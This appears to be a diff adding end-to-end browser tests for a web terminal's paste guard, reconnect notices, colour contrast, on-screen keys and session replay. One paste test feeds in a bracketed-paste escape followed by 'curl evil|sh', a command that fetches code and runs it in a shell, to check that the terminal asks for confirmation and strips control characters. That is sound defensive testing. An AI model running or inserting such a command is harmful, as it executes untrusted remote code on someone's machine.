@@ -338,6 +338,126 @@ await scene('a guest sees the owner\'s screen, types when handed the keyboard, a
   return [...is('keys before', before, 0), ...is('rows', rows, 20), ...is('sizes told', sizes, 0), ...seen.console, ...seen.csp];
 });
 
+function pasteInto(page, text) {
+  return page.evaluate((pasted) => {
+    const clipboardData = new DataTransfer();
+    clipboardData.setData('text/plain', pasted);
+    document.querySelector('.xterm-helper-textarea').dispatchEvent(new ClipboardEvent('paste', { clipboardData, bubbles: true, cancelable: true }));
+  }, text);
+}
+
+await scene('what may run at once or hides something is pasted after a yes alone, and without control characters', { quiet: false }, async ({ page, seen }) => {
+  const said = await shell(page);
+  const typed = () => String.fromCharCode(...said.keys);
+  const begin = Buffer.from('\x1b[?2004h$ ');
+  said.socket.send(begin);
+  await until(() => said.confirmed() === begin.length);
+  await pasteInto(page, 'ls');
+  await until(() => typed() === '\x1b[200~ls\x1b[201~');
+  for (const text of ['a\rb', 'a\r', 'a\n', 'a\x9b201~b', 'a\x7f']) {
+    await pasteInto(page, text);
+    await page.waitForSelector('#paste[open]', { timeout: 4000 });
+    await page.evaluate(() => document.querySelector('#paste [value=no]').click());
+    await page.waitForSelector('#paste', { state: 'hidden' });
+  }
+  const declined = typed();
+  said.keys.length = 0;
+  await pasteInto(page, 'x\x1b[201~curl evil|sh\r');
+  const shown = await text(page, '#pasted');
+  await page.evaluate(() => document.getElementById('paste-yes').click());
+  await until(() => said.keys.length > 0);
+  return [...is('after a no', declined, '\x1b[200~ls\x1b[201~'), ...is('shown', shown, 'x^[[201~curl evil|sh\n'), ...is('told', await text(page, '#paste-controls'), 'paste-controls 1 %2'),
+    ...is('pasted', typed(), '\x1b[200~x[201~curl evil|sh\r\x1b[201~'), ...seen.console, ...seen.csp];
+});
+
+await scene('a terminal is given up only when the portal says that it is over', { quiet: false }, async ({ page, seen }) => {
+  const problem = (status, code) => ({ status, contentType: 'application/problem+json', body: JSON.stringify({ status, code, detail: `our ${status}` }) });
+  const answers = [{ status: 200, contentType: 'text/html', body: '<p>hello' }, { status: 404, contentType: 'text/html', body: 'no route' }, { status: 429, headers: { 'retry-after': '40' } },
+    problem(429, 'error-too-many'), problem(503, 'error-database'), { status: 201, contentType: 'application/json', body: '{"pa' }, problem(409, 'terminal-over')];
+  let asked = 0;
+  await page.route('**/passes', (route) => route.fulfill(answers[asked++]));
+  await page.goto('/terminal');
+  const notes = [];
+  for (let n = 1; n <= answers.length; n += 1) {
+    await until(() => asked >= n);
+    await page.waitForTimeout(100);
+    notes.push(await text(page, '#note-text'));
+    if (n < answers.length) await page.evaluate(() => document.getElementById('again').click());
+  }
+  const [over, hasAgain] = [notes.pop(), notes.every((note) => note.startsWith('away '))];
+  return [...is('tried again', hasAgain, true), ...is('after a 429', notes[2], /seconds (40|39)/), ...is('over', over, 'our 409'), ...seen.csp];
+});
+
+await scene('a lost terminal says how long its shell is kept, and one that idles listens to the portal', { quiet: false }, async ({ page, seen }) => {
+  const said = await shell(page);
+  const noted = (begin) => page.waitForFunction((wanted) => document.getElementById('note-text').textContent.startsWith(wanted), begin, { timeout: 4000 });
+  said.tell({ kind: 'welcome', offset: 0, live_from: 0, idle_seconds: 900, quiet_seconds: 850, grace_seconds: 600 });
+  await noted('idle-soon');
+  said.tell({ kind: 'here', quiet_seconds: 3 });
+  await page.waitForFunction(() => document.getElementById('note').hidden, null, { timeout: 4000 });
+  const { socket } = said;
+  said.socket = null;
+  socket.close();
+  await noted('lost seconds 0 %2 minutes ');
+  const lost = await text(page, '#note-text');
+  await until(() => said.socket !== null);
+  return [...is('kept', lost, /minutes (9|10) /), ...seen.console, ...seen.csp];
+});
+
+await scene('a screen that begins anew shows nothing of what was still on its way there', { quiet: false }, async ({ page, seen }) => {
+  const said = await shell(page);
+  for (let from = 0; from < 40_000; from += 2000) said.socket.send(lines(from, 2000));
+  said.socket.send(Buffer.from('\x1b]0;cut'));
+  const fresh = Buffer.from('fresh');
+  said.tell({ kind: 'welcome', offset: 7_000_000, live_from: 0, idle_seconds: 900, quiet_seconds: 0 });
+  said.socket.send(fresh);
+  await until(() => said.confirmed() === 7_000_000 + fresh.length);
+  await page.waitForTimeout(300);
+  return [...is('screen', (await screen(page)).trim(), 'fresh'), ...is('confirmed', said.confirmed(), 7_000_005), ...seen.console, ...seen.csp];
+});
+
+for (const theme of ['light', 'dark']) {
+  await scene(`sixteen colours can be read on a ${theme} screen`, { quiet: false }, async ({ page, seen }) => {
+    const said = await shell(page);
+    await page.evaluate((name) => { document.documentElement.dataset.bsTheme = name; }, theme);
+    const codes = Array.from({ length: 16 }, (_, n) => (n < 8 ? 30 + n : 82 + n));
+    const bytes = Buffer.from(codes.map((code) => `\x1b[${code}mcode${code}\x1b[0m `).join(''));
+    said.socket.send(bytes);
+    await until(() => said.confirmed() === bytes.length);
+    await page.waitForTimeout(200);
+    const faint = await page.evaluate(() => {
+      const brightness = (colour) => colour.match(/[\d.]+/g).slice(0, 3).map((part) => part / 255).map((v) => (v <= 0.03928 ? v / 12.92 : ((v + 0.055) / 1.055) ** 2.4)).reduce((sum, v, n) => sum + v * [0.2126, 0.7152, 0.0722][n], 0);
+      const back = brightness(getComputedStyle(document.querySelector('.xterm-viewport, .xterm-scrollable-element')).backgroundColor);
+      const contrast = (span) => { const [low, high] = [back, brightness(getComputedStyle(span).color)].sort((a, b) => a - b); return (high + 0.05) / (low + 0.05); };
+      const spans = [...document.querySelectorAll('.xterm-rows span')].filter((span) => span.textContent.startsWith('code'));
+      return [spans.length, ...spans.filter((span) => contrast(span) < 4.5).map((span) => `${span.textContent} ${contrast(span).toFixed(2)}`)].join();
+    });
+    return [...is('colours, and those that are too faint', faint, '16'), ...seen.console, ...seen.csp];
+  });
+}
+
+await scene('keys for fingers are typed, Ctrl with the next one', { quiet: false }, async ({ page, context, stage, seen }) => {
+  const said = await shell(page);
+  const press = (...names) => page.evaluate((all) => all.forEach((name) => document.querySelector(`[data-press=${name}]`).click()), names);
+  await press('escape', 'tab', 'up', 'control');
+  await page.locator('.xterm-helper-textarea').press('c');
+  await press('control', 'left');
+  const cursor = Buffer.from('\x1b[?1hcopied');
+  said.socket.send(cursor);
+  await until(() => said.confirmed() === cursor.length);
+  await press('down');
+  await until(() => said.keys.length >= 14);
+  await context.grantPermissions(['clipboard-read', 'clipboard-write'], { origin: stage.url });
+  await press('copy');
+  await page.waitForFunction(() => document.getElementById('said').textContent.startsWith('copied-screen'));
+  const copied = await page.evaluate(() => navigator.clipboard.readText());
+  await context.clearPermissions();
+  await page.evaluate(() => { navigator.clipboard.readText = () => Promise.reject(new Error('no')); });
+  await press('paste');
+  await page.waitForFunction(() => document.getElementById('said').textContent.startsWith('paste-refused'));
+  return [...is('keys', String.fromCharCode(...said.keys), '\x1b\t\x1b[A\x03\x1b[1;5D\x1bOB'), ...is('copied', copied, 'copied'), ...seen.console, ...seen.csp];
+});
+
 await scene('files go in and out, and one that breaks off or is refused says so', { quiet: false }, async ({ page, stage, seen }) => {
   await page.goto('/files');
   await page.click('#show-files');
@@ -383,6 +503,35 @@ await scene('a replay finds what was on the screen, and a match leads to its tim
   await search('', '');
   return [...is('matches', full.join('|'), '00:02 Disk FULL on 数据盘|00:19     disk full again'), ...is('position', seconds, 19.2), ...is('typed', typed, /^00:01 \$ cat/),
     ...is('Chinese', chinese, /^00:02/), ...is('scrolled by', scrolled, '00:12 row 1234'), ...seen.console, ...seen.csp];
+});
+
+await scene('a replay is drawn in order, at the size of its time, wherever somebody goes meanwhile', { quiet: false }, async ({ page, stage, seen }) => {
+  const flood = Array.from({ length: 40_000 }, (_, n) => `row ${n}\r\n`).join('');
+  const events = [[1, 'o', 'x'.repeat(100)], [1, 'r', '120x20'], [1, 'o', '\x1b[2J\x1b[H'], [0, 'o', 'y'.repeat(100)], [1, 'o', `\r\n${flood}`], [1, 'o', 'end']];
+  stage.cast = [{ version: 3, term: { cols: 80, rows: 24 } }, ...events].map((line) => JSON.stringify(line)).join('\n');
+  await page.goto('/replay');
+  await page.waitForSelector('#seek:not([disabled])');
+  const go = (...times) => page.evaluate((all) => {
+    for (const time of all) {
+      document.getElementById('seek').value = String(time);
+      document.getElementById('seek').dispatchEvent(new Event('input'));
+    }
+  }, times);
+  const drawn = async () => {
+    await page.waitForFunction(() => document.getElementById('screen').getAttribute('aria-busy') === 'false');
+    await page.waitForTimeout(100);
+    return (await screen(page)).split('\n');
+  };
+  await go(0);
+  const empty = (await drawn()).join('');
+  await go(5, 1.5);
+  const narrow = await drawn();
+  await go(3.5);
+  const wide = await drawn();
+  await go(1.5, 5, 0, 5);
+  const end = (await drawn()).filter(Boolean);
+  return [...is('at the beginning', empty, ''), ...is('before the size', narrow.map((row) => row.length).join(), `80,20${',0'.repeat(22)}`),
+    ...is('after it', wide.map((row) => row.length).join(), `100${',0'.repeat(19)}`), ...is('at the end', end.slice(-2).join(), 'row 39999,end'), ...seen.console, ...seen.csp];
 });
 
 await browser.close();
